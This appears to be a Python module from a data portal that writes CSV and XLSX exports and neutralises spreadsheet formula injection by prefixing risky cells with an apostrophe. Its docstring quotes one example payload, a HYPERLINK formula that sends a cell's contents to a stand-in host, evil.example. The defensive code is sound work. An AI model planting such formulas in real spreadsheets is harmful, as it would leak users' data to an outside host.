"""The one safe writer for every table the portal hands out as CSV or XLSX.

Plain Python, no CKAN. Every cell goes through :func:`safe_cell`:

* text a spreadsheet would read as a formula (it begins with ``=``, ``+``, ``-``, ``@``,
  a tab or a carriage return) gets an apostrophe in front, so that
  ``=HYPERLINK("https://evil.example/?x="&A2,"Open")`` stays inert text in Excel and
  LibreOffice (OWASP "CSV injection"); plain numbers written as text (``-12.5``) stay;
* characters XML (so XLSX, RDF/XML, Atom) cannot hold are removed: C0 controls other
  than tab, line feed and carriage return, lone surrogates, U+FFFE and U+FFFF;
* numbers, booleans, dates and times pass untouched.

:func:`csv_lines` streams a CSV line by line, the UTF-8 byte order mark first (Excel
then reads the Cyrillic correctly); :func:`csv_bytes` is the same in one piece;
:func:`write_csv` writes it to a binary stream (a file, a ``gzip.GzipFile``) as it goes.
:func:`write_xlsx` / :func:`xlsx_bytes` write workbooks with openpyxl's write-only
(streaming) mode, one :class:`Sheet` each.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from decimal import Decimal
from typing import IO, Any, Protocol

__all__ = [
    "BOM",
    "FORMULA_STARTS",
    "Sheet",
    "clean_text",
    "csv_bytes",
    "csv_lines",
    "is_live_formula",
    "safe_cell",
    "write_csv",
    "write_xlsx",
    "xlsx_bytes",
]

BOM = "\ufeff"
#: A cell whose text begins with one of these is read as a formula by spreadsheets.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: Excel's limit for the text of one cell.
XLSX_MAX_TEXT = 32767

# Characters XML 1.0 cannot hold (so neither can XLSX): C0 controls except tab, LF, CR;
# lone surrogates; the non-characters U+FFFE and U+FFFF.
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")

_UNTOUCHED = (bool, int, float, Decimal, dt.date, dt.time, dt.timedelta)


def clean_text(text: str) -> str:
    """``text`` without the characters XML cannot hold (controls, lone surrogates)."""
    return _NOT_XML.sub("", text)


def safe_cell(value: Any) -> Any:
    """``value`` as it may go into a CSV or XLSX cell: inert text, numbers and dates as they are.

    ``None`` stays ``None`` (an empty cell); anything else that is not a number, a
    boolean or a date is written as its text.
    """
    if value is None or isinstance(value, _UNTOUCHED):
        return value
    text = clean_text(value if isinstance(value, str) else str(value))
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def is_live_formula(value: Any) -> bool:
    """True if a spreadsheet would read this cell text as a formula (for checks and tests)."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value)


class _Line:
    """A write target that keeps what one csv.writer row wrote."""

    def __init__(self) -> None:
        self.text = ""

    def write(self, text: str) -> int:
        self.text += text
        return len(text)


def csv_lines(
    header: Sequence[Any] | None, rows: Iterable[Sequence[Any]], *, bom: bool = True
) -> Iterator[str]:
    """The CSV line by line (``\\r\\n`` ends each), the BOM before the first; every cell safe.

    ``header=None`` writes no header line. Streams: ``rows`` is consumed lazily.
    """
    line = _Line()
    writer = csv.writer(line, lineterminator="\r\n")
    first = True
    lines: Iterable[Sequence[Any]] = rows if header is None else _chain([header], rows)
    for row in lines:
        line.text = ""
        writer.writerow(["" if v is None else v for v in map(safe_cell, row)])
        if first and bom:
            yield BOM + line.text
        else:
            yield line.text
        first = False
    if first and bom:
        yield BOM


def _chain(head: Iterable[Sequence[Any]], rest: Iterable[Sequence[Any]]) -> Iterator[Sequence[Any]]:
    yield from head
    yield from rest


def csv_bytes(header: Sequence[Any] | None, rows: Iterable[Sequence[Any]], *, bom: bool = True) -> bytes:
    """:func:`csv_lines` in one piece, UTF-8."""
    return "".join(csv_lines(header, rows, bom=bom)).encode("utf-8")


class BytesSink(Protocol):
    """Where :func:`write_csv` writes: a binary file, ``io.BytesIO``, ``gzip.GzipFile``."""

    def write(self, data: bytes, /) -> object: ...


def write_csv(
    header: Sequence[Any] | None, rows: Iterable[Sequence[Any]], out: BytesSink, *, bom: bool = True
) -> None:
    """:func:`csv_lines` written to ``out`` in UTF-8 as the rows come: the whole text is
    never held in memory (pass a ``gzip.GzipFile`` to store it compressed)."""
    batch: list[str] = []
    for line in csv_lines(header, rows, bom=bom):
        batch.append(line)
        if len(batch) >= 1000:
            out.write("".join(batch).encode("utf-8"))
            batch.clear()
    if batch:
        out.write("".join(batch).encode("utf-8"))


@dataclass
class Sheet:
    """One worksheet: ``intro`` lines above the header (the first in bold), the header
    (bold, frozen, with a filter), the rows (streamed), column widths (characters)."""

    title: str
    header: Sequence[Any]
    rows: Iterable[Sequence[Any]]
    widths: Sequence[float] = ()
    intro: Sequence[Any] = ()
    wrap: bool = False
    date_format: str = "DD.MM.YYYY"
    datetime_format: str = "DD.MM.YYYY HH:MM"
    autofilter: bool = True
    #: Set up for print: A4 landscape, one page wide, the header row repeated on every page.
    printable: bool = False


def _xlsx_value(value: Any) -> Any:
    value = safe_cell(value)
    if isinstance(value, dt.datetime) and value.tzinfo is not None:
        value = value.replace(tzinfo=None)  # Excel has no time zones; the wall-clock time stays
    elif isinstance(value, dt.time) and value.tzinfo is not None:
        value = value.replace(tzinfo=None)
    elif isinstance(value, str) and len(value) > XLSX_MAX_TEXT:
        value = value[: XLSX_MAX_TEXT - 1] + "…"
    elif isinstance(value, float) and value != value:  # NaN: Excel cannot hold it
        value = None
    return value


def write_xlsx(sheets: Iterable[Sheet], out: IO[bytes]) -> None:
    """Write the workbook to ``out`` (write-only mode: rows are not kept in memory)."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Alignment, Font
    from openpyxl.utils import get_column_letter
    from openpyxl.worksheet.filters import AutoFilter

    wb = Workbook(write_only=True)
    bold = Font(bold=True)
    wrap = Alignment(wrap_text=True, vertical="top")
    titles: set[str] = set()
    for sheet in sheets:
        title = _sheet_title(sheet.title, titles)
        ws = wb.create_sheet(title)
        for col, width in enumerate(sheet.widths, 1):
            ws.column_dimensions[get_column_letter(col)].width = width
        top = len(sheet.intro) + (2 if sheet.intro else 1)  # the header's row
        if sheet.printable:
            _print_setup(ws, top)
        ws.freeze_panes = f"A{top + 1}"  # before the first row: write-only writes the view first
        for i, text in enumerate(sheet.intro):
            cell = WriteOnlyCell(ws, value=_xlsx_value(text))
            if i == 0:
                cell.font = bold
            ws.append([cell])
        if sheet.intro:
            ws.append([])

        ws.append([_xlsx_cell(ws, sheet, h, bold, wrap) for h in sheet.header])
        count = 0
        for row in sheet.rows:
            ws.append([_xlsx_plain(ws, sheet, v, wrap) for v in row])
            count += 1
        if sheet.autofilter and count and sheet.header:
            ws.auto_filter = AutoFilter(ref=f"A{top}:{get_column_letter(len(sheet.header))}{top + count}")
    if not titles:
        wb.create_sheet("Sheet")
    wb.save(out)


def _print_setup(ws: Any, header_row: int) -> None:
    from openpyxl.worksheet.properties import PageSetupProperties

    ws.page_setup.orientation = "landscape"
    ws.page_setup.paperSize = "9"  # A4
    ws.page_setup.fitToWidth = 1
    ws.page_setup.fitToHeight = 0  # as many pages down as the rows need
    ws.sheet_properties.pageSetUpPr = PageSetupProperties(fitToPage=True)
    ws.print_title_rows = f"{header_row}:{header_row}"


def _xlsx_cell(ws: Any, sheet: Sheet, value: Any, font: Any, wrap: Any) -> Any:
    from openpyxl.cell import WriteOnlyCell

    value = _xlsx_value(value)
    cell = WriteOnlyCell(ws, value=value)
    if font is not None:
        cell.font = font
    if sheet.wrap:
        cell.alignment = wrap
    if isinstance(value, dt.datetime):
        cell.number_format = sheet.datetime_format
    elif isinstance(value, dt.date):
        cell.number_format = sheet.date_format
    if cell.data_type == "f":  # cannot happen (safe_cell), but never write a formula
        cell.data_type = "s"
    return cell


def _xlsx_plain(ws: Any, sheet: Sheet, value: Any, wrap: Any) -> Any:
    """A data cell: plain text and numbers as values (openpyxl writes them a third faster than
    cell objects: 1.1 million cells in the register at 100,000 datasets), anything with a
    format, a wrap, or text a spreadsheet could take for a formula as a cell."""
    if not sheet.wrap:
        plain = _xlsx_value(value)
        if plain is None or isinstance(plain, int | float) or (
            isinstance(plain, str) and not plain.startswith("=")
        ):
            return plain
    return _xlsx_cell(ws, sheet, value, None, wrap)


def _sheet_title(title: str, seen: set[str]) -> str:
    """A worksheet name Excel accepts: ≤ 31 characters, none of ``[]:*?/\\``, unique."""
    base = re.sub(r"[\[\]:*?/\\]", " ", clean_text(title)).strip(" '") or "Sheet"
    base = base[:31]
    name, n = base, 1
    while name.lower() in seen:
        n += 1
        suffix = f" ({n})"
        name = base[: 31 - len(suffix)] + suffix
    seen.add(name.lower())
    return name


def xlsx_bytes(sheets: Iterable[Sheet]) -> bytes:
    """:func:`write_xlsx` into bytes."""
    out = io.BytesIO()
    write_xlsx(sheets, out)
    return out.getvalue()
